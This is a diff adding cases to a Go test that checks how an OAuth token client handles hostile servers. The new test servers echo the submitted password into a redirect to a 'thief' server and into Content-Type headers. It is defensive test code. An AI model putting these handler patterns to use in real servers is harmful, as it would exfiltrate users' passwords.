@@ -210,6 +210,20 @@ func TestTokenAgainstHostileServers(t *testing.T) {
 			w.WriteHeader(http.StatusBadRequest)
 			_, _ = w.Write([]byte(`{"error":"invalid_request","error_description":"line1\nline2\u001b[31m"}`))
 		}, exitOAuth, "", "invalid_request"},
+		{"redirect echoing the password in its path", func(w http.ResponseWriter, r *http.Request) {
+			_ = r.ParseForm()
+			http.Redirect(w, r, thief.URL+"/"+r.PostForm.Get("password"), http.StatusTemporaryRedirect)
+		}, exitFailure, "redirect", ""},
+		{"500 echoing the password in its Content-Type", func(w http.ResponseWriter, r *http.Request) {
+			_ = r.ParseForm()
+			w.Header().Set("Content-Type", "text/html; x="+r.PostForm.Get("password"))
+			w.WriteHeader(http.StatusInternalServerError)
+		}, exitFailure, "HTTP 500", ""},
+		{"garbage with the password as Content-Type", func(w http.ResponseWriter, r *http.Request) {
+			_ = r.ParseForm()
+			w.Header().Set("Content-Type", r.PostForm.Get("password"))
+			_, _ = w.Write([]byte("garbage"))
+		}, exitFailure, "invalid server response", ""},
 		{"401 text/plain without OAuth body", func(w http.ResponseWriter, r *http.Request) {
 			w.WriteHeader(http.StatusUnauthorized)
 			_, _ = w.Write([]byte("Unauthorized"))
